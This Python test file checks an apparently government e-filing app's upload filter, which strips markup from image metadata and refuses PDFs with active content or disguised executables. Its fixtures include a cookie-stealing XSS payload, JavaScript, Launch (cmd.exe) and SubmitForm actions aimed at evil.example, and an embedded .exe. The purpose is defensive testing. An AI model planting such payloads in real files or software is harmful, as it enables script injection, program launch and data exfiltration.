"""Active content in uploads, with real crafted files: images carrying markup in their metadata (a
JPEG comment, a PNG text chunk, a TIFF tag) are stored redrawn without it, the SHA-256 on the row
being the stored file's; PDFs with JavaScript (an open action, the name tree, a form field, a
hex-escaped name), launch and automatic actions or embedded files are refused, saying why; an
executable or a web page named .pdf is refused; clean files are still accepted and downloaded."""

import hashlib
import io
import struct

import pytest
from django.core.exceptions import ValidationError
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from core.base.storage import stored_path
from core.base.uploads.filecheck import PDF, FileRefused, file_check
from core.efile.services.documents import document_upload
from core.models import AuditEvent, Document
from tenants.context import district_context
from tests.core.efile import samples
from tests.core.efile.filework import gen_file
from tests.core.efile.samples import pdf_of, pdf_page_objects, pdf_stream, upload

ONERROR = b"<img src=x onerror=alert(document.cookie)>"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.KARYALAY_X_ACCEL_PREFIX = ""
    return settings.MEDIA_ROOT


def stored_files(media) -> list[str]:
    return sorted(str(p.relative_to(media)) for p in media.rglob("*") if p.is_file())


def _upload(ef, name: str, data: bytes) -> Document:
    with district_context("vaishali"):
        file = gen_file(ef.actor("clerk"), ef.posts["clerk"], "Scans")
        (document,) = document_upload(actor=ef.actor("clerk"), file=file, uploads=[upload(name, data)])
    return document


def _write(tmp_path, data: bytes, name: str = "upload"):
    path = tmp_path / name
    path.write_bytes(data)
    return path


# --- images: stored redrawn, without their metadata -----------------------------------------


def jpeg_with_comment() -> bytes:
    """A JPEG whose COM segment holds markup the tag list of the scan does not know."""
    jpeg = samples.image_bytes("JPEG", size=(120, 80))
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(ONERROR) + 2) + ONERROR + jpeg[2:]


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Comment", ONERROR.decode())
    info.add_itxt("Description", ONERROR.decode())
    return samples.image_bytes("PNG", pnginfo=info)


def tiff_with_description() -> bytes:
    out = io.BytesIO()
    first, second = Image.new("L", (100, 60), 200), Image.new("1", (80, 40), 1)
    first.save(out, format="TIFF", save_all=True, append_images=[second], description=ONERROR.decode())
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "content_type", "pages"),
    [
        ("scan.jpg", jpeg_with_comment(), "image/jpeg", 1),
        ("scan.png", png_with_text(), "image/png", 1),
        ("scan.tif", tiff_with_description(), "image/tiff", 2),
    ],
    ids=["jpeg-comment", "png-text", "tiff-tag"],
)
def test_markup_in_an_images_metadata_passes_the_checks_but_is_not_stored(
    ef, name, data, content_type, pages
):
    assert ONERROR in data
    document = _upload(ef, name, data)
    with district_context("vaishali"):
        version = document.versions.get()
        stored = stored_path(version.stored_name).read_bytes()
        event = AuditEvent.objects.get(action="document.upload", target_id=str(document.pk))
    assert b"onerror" not in stored and b"<img" not in stored
    assert (version.content_type, version.pages) == (content_type, pages)
    # The row's SHA-256 and size are the stored file's; the bytes received are in the audit event.
    assert version.sha256 == hashlib.sha256(stored).hexdigest() and version.size == len(stored)
    assert event.details["sha256"] == version.sha256
    assert event.details["received_sha256"] == hashlib.sha256(data).hexdigest()
    with Image.open(io.BytesIO(stored)) as image:
        assert getattr(image, "n_frames", 1) == pages
        assert not {"comment", "exif", "icc_profile", "xmp", "Comment", "Description"} & set(image.info)
    response = ef.client("clerk").get(f"/documents/{document.pk}/download/")
    assert b"".join(response.streaming_content) == stored


def test_a_jpegs_comment_and_exif_are_gone_and_its_orientation_applied(ef):
    out = io.BytesIO()
    image = Image.new("RGB", (40, 20), (10, 200, 10))
    exif = image.getexif()
    exif[0x0112] = 6  # rotate 90° when shown
    exif[0x010E] = ONERROR.decode()  # ImageDescription
    image.save(out, format="JPEG", exif=exif, quality=95)
    document = _upload(ef, "photo.jpg", out.getvalue())
    with district_context("vaishali"):
        stored = stored_path(document.versions.get().stored_name).read_bytes()
    assert b"\xff\xe1" not in stored and b"onerror" not in stored  # no APP1 (EXIF) segment
    with Image.open(io.BytesIO(stored)) as redrawn:
        assert redrawn.size == (20, 40)


def test_an_animated_png_is_refused(tmp_path, ef):
    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(out, format="PNG", save_all=True, append_images=frames[1:])
    with district_context("vaishali"), pytest.raises(ValidationError, match="animated PNG"):
        _upload(ef, "anim.png", out.getvalue())


# --- PDFs with active content: refused, saying why -------------------------------------------

JS = b"<< /Type /Action /S /JavaScript /JS (app.alert) >>"

ACTIVE_PDFS = {
    "open-action-js": (pdf_of([*pdf_page_objects(catalog=b"/OpenAction 5 0 R"), JS]), "JavaScript"),
    "names-tree-js": (
        pdf_of(
            [
                *pdf_page_objects(catalog=b"/Names << /JavaScript 5 0 R >>"),
                b"<< /Names [(start) 6 0 R] >>",
                JS,
            ]
        ),
        "JavaScript",
    ),
    "hex-escaped-js": (
        pdf_of(pdf_page_objects(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>")),
        "JavaScript",
    ),
    "form-field-js": (
        pdf_of(
            [
                *pdf_page_objects(catalog=b"/AcroForm << /Fields [5 0 R] >>"),
                b"<< /FT /Tx /T (a) /AA << /K 6 0 R >> >>",
                JS,
            ]
        ),
        "JavaScript",
    ),
    "link-js": (
        pdf_of(
            [
                *pdf_page_objects(page=b"/Annots [5 0 R]"),
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (x) /Next 6 0 R >> >>",
                JS,
            ]
        ),
        "JavaScript",
    ),
    "launch": (
        pdf_of(
            [
                *pdf_page_objects(page=b"/Annots [5 0 R]"),
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (cmd.exe) >> >>",
            ]
        ),
        "start programs",
    ),
    "page-open-uri": (
        pdf_of(pdf_page_objects(page=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >>")),
        "act by themselves",
    ),
    "submit-form": (
        pdf_of(pdf_page_objects(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>")),
        "send data",
    ),
    "embedded-file": (
        pdf_of(
            [
                *pdf_page_objects(catalog=b"/Names << /EmbeddedFiles 5 0 R >>"),
                b"<< /Names [(a.exe) 6 0 R] >>",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                pdf_stream(b"MZ\x90\x00", b"/Type /EmbeddedFile "),
            ]
        ),
        "other files inside it",
    ),
}


@pytest.mark.parametrize(("data", "says"), ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_a_pdf_with_active_content_is_refused_saying_why(tmp_path, data, says):
    with pytest.raises(FileRefused) as refused:
        file_check(_write(tmp_path, data), name="notice.pdf")
    message = " ".join(refused.value.messages)
    assert message.startswith("notice.pdf: ") and says in message


@pytest.mark.parametrize(
    "data",
    [
        pdf_of(pdf_page_objects(catalog=b"/OpenAction [3 0 R /Fit]")),
        pdf_of(pdf_page_objects(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
        pdf_of(
            [
                *pdf_page_objects(page=b"/Annots [5 0 R]"),
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://bihar.gov.in/) >> >>",
            ]
        ),
        pdf_of(
            [
                *pdf_page_objects(catalog=b"/Outlines 5 0 R"),
                b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
                b"<< /Title (Page 1) /Parent 5 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            ]
        ),
        samples.pdf_bytes(3),
    ],
    ids=["open-at-page", "open-goto", "web-link", "outline", "plain"],
)
def test_ordinary_pdfs_with_links_and_bookmarks_still_pass(tmp_path, data):
    assert file_check(_write(tmp_path, data), name="notice.pdf").content_type == PDF


def test_a_refused_pdf_leaves_no_row_and_no_file(ef, media):
    data, _says = ACTIVE_PDFS["open-action-js"]
    with district_context("vaishali"):
        before = Document.objects.count()
        with pytest.raises(ValidationError, match="JavaScript"):
            _upload(ef, "notice.pdf", data)
        assert Document.objects.count() == before
    assert not [name for name in stored_files(media) if "/documents/" in name or "/tmp/" in name]


# --- what is not a PDF or an image at all, whatever its name ---------------------------------

EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("scan.pdf", EXECUTABLE, "type"),
        ("scan.pdf", samples.HTML, "html"),
        ("scan.jpg", samples.HTML, "html"),
    ],
    ids=["executable", "html-as-pdf", "html-as-jpg"],
)
def test_an_executable_or_a_web_page_named_pdf_is_refused(ef, media, name, data, code):
    with pytest.raises(FileRefused) as refused:
        file_check(_write(media.parent, data), name=name)
    assert refused.value.code == code
    with district_context("vaishali"), pytest.raises(ValidationError):
        _upload(ef, name, data)
    assert not [name for name in stored_files(media) if "/documents/" in name or "/tmp/" in name]


# --- clean files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("letter.pdf", samples.pdf_bytes(2), "application/pdf"),
        ("photo.jpg", samples.image_bytes("JPEG", size=(300, 200)), "image/jpeg"),
        ("scan.png", samples.image_bytes("PNG"), "image/png"),
        ("scan.tif", samples.image_bytes("TIFF"), "image/tiff"),
    ],
)
def test_clean_files_are_accepted_and_downloaded_as_stored(ef, name, data, content_type):
    document = _upload(ef, name, data)
    with district_context("vaishali"):
        version = document.versions.get()
        stored = stored_path(version.stored_name).read_bytes()
    if content_type == PDF:
        assert stored == data  # a PDF is kept byte for byte
    response = ef.client("clerk").get(f"/documents/{document.pk}/download/")
    assert response.status_code == 200 and response["Content-Type"] == content_type
    served = b"".join(response.streaming_content)
    assert served == stored and hashlib.sha256(served).hexdigest() == version.sha256
    if content_type != PDF:  # an image is redrawn: the same picture
        with Image.open(io.BytesIO(stored)) as image, Image.open(io.BytesIO(data)) as original:
            assert (image.size, image.mode) == (original.size, original.mode)
